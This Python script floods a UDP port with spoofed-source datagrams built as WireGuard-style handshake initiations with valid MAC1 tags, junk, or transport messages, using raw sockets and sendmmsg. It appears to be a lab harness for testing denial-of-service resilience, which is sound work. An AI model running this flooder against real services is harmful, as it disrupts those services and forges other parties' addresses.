#!/usr/bin/python3
"""Floods a port with datagrams from forged addresses, until it is killed.

usage: flooder.py KIND TARGET PORT PUBLIC_KEY PER_SECOND [SOURCE SOURCE_PORT]

KIND: initiation  with a valid MAC1, and nothing else right of it (paper, 5.4.4)
      junk        of an initiation's size
      transport   transport messages with random indices and tags
      INDEX       (in hex) transport messages with this index, and random tags
Without SOURCE each comes from another address within 10.91.0.0/16.  Prints `flooding` once it has begun, and every
second how many were sent.
"""

import base64
import ctypes
import hashlib
import ipaddress
import os
import socket
import struct
import sys
import time

GROUP = 64  # datagrams for one system call
GROUPS = 32  # of them leave in one burst


def payload(kind, public_key):
    if kind not in ("initiation", "junk"):
        index = os.urandom(4) if kind == "transport" else bytes.fromhex(kind)
        return bytes([4, 0, 0, 0]) + index + os.urandom(120)
    body = bytes([1, 0, 0, 0]) + os.urandom(112)
    if kind == "junk":
        return body + os.urandom(32)
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)


def packet(source, target, content):
    """With an IP and a UDP header; the kernel fills in IP's length and checksum, and UDP needs none."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source[0]), socket.inet_aton(target[0]))
    return header + struct.pack("!HHHH", source[1], target[1], 8 + len(content), 0) + content


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("name_size", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
                ("iov_size", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("header", Msghdr), ("sent", ctypes.c_uint)]


def group(packets, name):
    """What sendmmsg() takes, and what it refers to."""
    vectors = (Iovec * len(packets))(*(Iovec(one, len(one)) for one in packets))
    messages = (Mmsghdr * len(packets))()
    for i, message in enumerate(messages):
        message.header = Msghdr(name, len(name), ctypes.pointer(vectors[i]), 1, None, 0, 0)
    return messages, vectors, packets


def main(kind, address, port, public_key, per_second, source=None, source_port=0):
    target = (address, int(port))
    rate = int(per_second)
    key = base64.b64decode(public_key)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    name = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", 0, socket.inet_aton(address))
    first = int(ipaddress.ip_address("10.91.0.1"))
    groups = []
    for g in range(GROUPS):
        sources = [(source, int(source_port)) if source else
                   (str(ipaddress.ip_address(first + g * GROUP + i)), 1024 + i) for i in range(GROUP)]
        groups.append(group([packet(one, target, payload(kind, key)) for one in sources], name))
    send = ctypes.CDLL(None, use_errno=True).sendmmsg
    start = said = time.monotonic()
    sent = 0
    print("flooding", flush=True)
    while True:
        for messages, *_ in groups:
            sent += max(send(sender.fileno(), messages, GROUP, 0), 0)
        now = time.monotonic()
        if now - said >= 1:
            print(sent, flush=True)
            said = now
        time.sleep(max(0.0, start + sent / rate - now))


if __name__ == "__main__":
    main(*sys.argv[1:])
